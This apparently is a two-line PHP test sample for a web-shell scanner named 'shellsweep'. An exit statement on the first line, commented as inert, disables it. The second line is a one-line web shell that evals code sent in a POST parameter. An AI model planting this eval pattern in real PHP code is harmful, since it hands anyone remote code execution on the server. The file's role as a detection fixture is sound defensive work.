<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php $p = 'p'; @eval($_POST[$p]); ?>
